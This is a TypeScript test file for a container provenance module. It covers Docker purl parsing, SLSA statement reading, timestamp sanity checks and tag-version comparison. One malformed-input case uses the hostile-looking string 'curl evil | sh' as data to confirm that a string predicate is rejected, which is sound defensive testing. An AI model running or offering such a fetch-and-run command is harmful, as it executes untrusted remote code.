/** The pure parts: purls, SLSA statements, creation-time realness, Docker tag versions, layer prefixes. */
import { describe, expect, it } from 'vitest';
import { MAX_TAGS, checkTime, isPrefix, newerReleases, parseDockerPurl, parseDockerTag, readProvenanceStatement } from '../../src/provenance/index.js';
import { MAX_MATERIALS } from '../../src/provenance/slsa.js';

const D = (c: string) => `sha256:${c.repeat(64)}`;
const NOW = new Date('2024-07-01T00:00:00Z');

describe('parseDockerPurl', () => {
  it.each([
    ['pkg:docker/ruby@3.3-slim?platform=linux%2Famd64', { registry: 'docker.io', repository: 'library/ruby', tag: '3.3-slim' }, undefined, { os: 'linux', architecture: 'amd64' }],
    ['pkg:docker/docker/dockerfile@1', { registry: 'docker.io', repository: 'docker/dockerfile', tag: '1' }, undefined, undefined],
    [
      'pkg:docker/ghcr.io/acme/base@1.0?digest=sha256%3A' + 'a'.repeat(64) + '&platform=linux%2Farm64%2Fv8',
      { registry: 'ghcr.io', repository: 'acme/base', tag: '1.0' },
      D('a'),
      { os: 'linux', architecture: 'arm64', variant: 'v8' },
    ],
    ['pkg:docker/localhost:5000/base@sha256:' + 'b'.repeat(64), { registry: 'localhost:5000', repository: 'base' } as { registry: string; repository: string; tag?: string }, D('b'), undefined],
  ])('%s', (uri, ref, digest, platform) => {
    const p = parseDockerPurl(uri);
    expect(p?.ref).toMatchObject(ref);
    expect(p?.ref.tag).toBe(ref.tag);
    expect(p?.digest).toBe(digest);
    expect(p?.platform).toEqual(platform);
  });

  it.each(['pkg:npm/left-pad@1', 'pkg:docker/', 'pkg:docker/UPPER@1', 'pkg:docker/a%zz@1', 'pkg:docker/a@1?digest=sha256:short', `pkg:docker/${'a'.repeat(2000)}@1`, 'https://example.com/x'])(
    'refuses %s',
    (uri) => expect(parseDockerPurl(uri)).toBeUndefined(),
  );
});

describe('readProvenanceStatement', () => {
  const subject = D('c');
  const stmt = (o: unknown) => Buffer.from(JSON.stringify(o));
  const v02 = (predicate: unknown) => stmt({ predicateType: 'https://slsa.dev/provenance/v0.2', subject: [{ digest: { sha256: 'c'.repeat(64) } }], predicate });

  it('reads image materials and skips other kinds', () => {
    const r = readProvenanceStatement(
      v02({
        materials: [
          { uri: 'pkg:docker/ruby@3.3?platform=linux%2Famd64', digest: { sha256: 'd'.repeat(64) } },
          { uri: 'https://github.com/acme/app.git#main' },
          { uri: 'pkg:docker/alpine@3', digest: { sha256: 'not-hex' } },
          42,
          null,
        ],
      }),
      subject,
    );
    expect(r.notes).toEqual([]);
    expect(r.images.map((i) => [i.ref.repository, i.resolvedDigest])).toEqual([
      ['library/ruby', D('d')],
      ['library/alpine', undefined],
    ]);
  });

  it.each([
    [Buffer.from('not json'), 'provenance statement is not valid JSON; ignored'],
    [stmt([1, 2]), 'provenance statement is not a JSON object; ignored'],
    [stmt({ predicateType: 'https://spdx.dev/Document', predicate: {} }), 'statement predicateType "https://spdx.dev/Document" is not SLSA provenance; ignored'],
    [v02('curl evil | sh'), 'provenance predicate is a string, not an object; ignored'],
    [v02(null), 'provenance predicate is null, not an object; ignored'],
    [v02([]), 'provenance predicate is an array, not an object; ignored'],
    [v02({ materials: { uri: 'x' } }), 'provenance materials is not a list; ignored'],
    [v02({}), 'provenance has no materials'],
    [stmt({ predicateType: 'https://slsa.dev/provenance/v1', subject: [{ digest: { sha256: 'e'.repeat(64) } }], predicate: {} }), `provenance statement names other subjects than ${subject}; ignored`],
  ])('notes malformed input %#', (bytes, note) => {
    expect(readProvenanceStatement(bytes, subject)).toMatchObject({ images: [], notes: [note] });
  });

  it('reads at most MAX_MATERIALS entries', () => {
    const materials = Array.from({ length: MAX_MATERIALS + 5 }, (_, i) => ({ uri: `pkg:docker/img${i}@1` }));
    const r = readProvenanceStatement(v02({ materials }), subject);
    expect(r.images).toHaveLength(MAX_MATERIALS);
    expect(r.notes).toEqual([`provenance lists ${MAX_MATERIALS + 5} materials; only the first ${MAX_MATERIALS} were read`]);
  });
});

describe('checkTime', () => {
  it.each([
    ['2024-03-01T00:00:00Z', '2024-03-01T00:00:00.000Z'],
    ['2024-03-01T02:00:00.123456789+02:00', '2024-03-01T00:00:00.123Z'],
    ['2000-01-01T00:00:00Z', '2000-01-01T00:00:00.000Z'],
    // 23 hours ahead: within the one-day allowance for clock skew
    ['2024-07-01T23:00:00Z', '2024-07-01T23:00:00.000Z'],
  ])('accepts %s', (value, time) => expect(checkTime(value, NOW)).toEqual({ ok: true, time }));

  it.each([
    ['1970-01-01T00:00:00Z', /Unix epoch/],
    ['1980-01-01T00:00:01Z', /fixed date buildpacks write/],
    ['1985-10-26T01:21:00Z', /before 2000/],
    ['1999-12-31T23:59:59Z', /before 2000/],
    ['0001-01-01T00:00:00Z', /before 2000/],
    ['2024-07-03T00:00:00Z', /in the future/],
    ['yesterday', /not an RFC 3339 time/],
    ['2024-02-30T00:00:00Z', /not a valid time/],
    ['2024-03-01T24:00:00Z', /not a valid time/],
    [42, /absent/],
  ])('refuses %s', (value, reason) => {
    const r = checkTime(value, NOW);
    expect(r.ok).toBe(false);
    expect(r.ok ? '' : r.reason).toMatch(reason);
  });
});

describe('Docker tag versions', () => {
  it.each([
    ['3.3.4-slim', '3.3.4', 3, 'slim'],
    ['v1.2', '1.2.0', 2, undefined],
    ['20-alpine3.20', '20.0.0', 1, 'alpine3.20'],
    ['3.3.4-slim-bookworm', '3.3.4', 3, 'slim-bookworm'],
  ])('%s', (tag, version, parts, suffix) => {
    const v = parseDockerTag(tag);
    expect([v?.version.version, v?.parts, v?.suffix]).toEqual([version, parts, suffix]);
  });

  it.each(['latest', 'bookworm', '1.2.3.4', '3.3.4rc1', 'sha-abc123', '-slim'])('%s is not a version', (tag) => expect(parseDockerTag(tag)).toBeUndefined());

  it('compares floating 2-part tags with their peers only', () => {
    expect(newerReleases('3.3-slim', ['3.3-slim', '3.3.9-slim', '3.4-slim', '3.10-slim', '4.0-slim', '3.4-alpine'])).toMatchObject({
      patch: [],
      minor: ['3.4-slim', '3.10-slim'],
      major: ['4.0-slim'],
    });
  });

  it(`caps the tags considered at ${MAX_TAGS}`, () => {
    const tags = Array.from({ length: MAX_TAGS + 3 }, (_, i) => `1.0.${i}`);
    const r = newerReleases('1.0.0', tags);
    expect([r?.considered, r?.truncated, r?.patch.length, r?.patch.at(-1)]).toEqual([MAX_TAGS, true, MAX_TAGS - 1, `1.0.${MAX_TAGS - 1}`]);
  });
});

describe('isPrefix', () => {
  it.each([
    [['a'], ['a', 'b'], true],
    [['a', 'b'], ['a', 'b'], true],
    [[], ['a'], false],
    [['b'], ['a', 'b'], false],
    [['a', 'b', 'c'], ['a', 'b'], false],
  ])('%j of %j → %s', (base, image, ok) => expect(isPrefix(base, image)).toBe(ok));
});
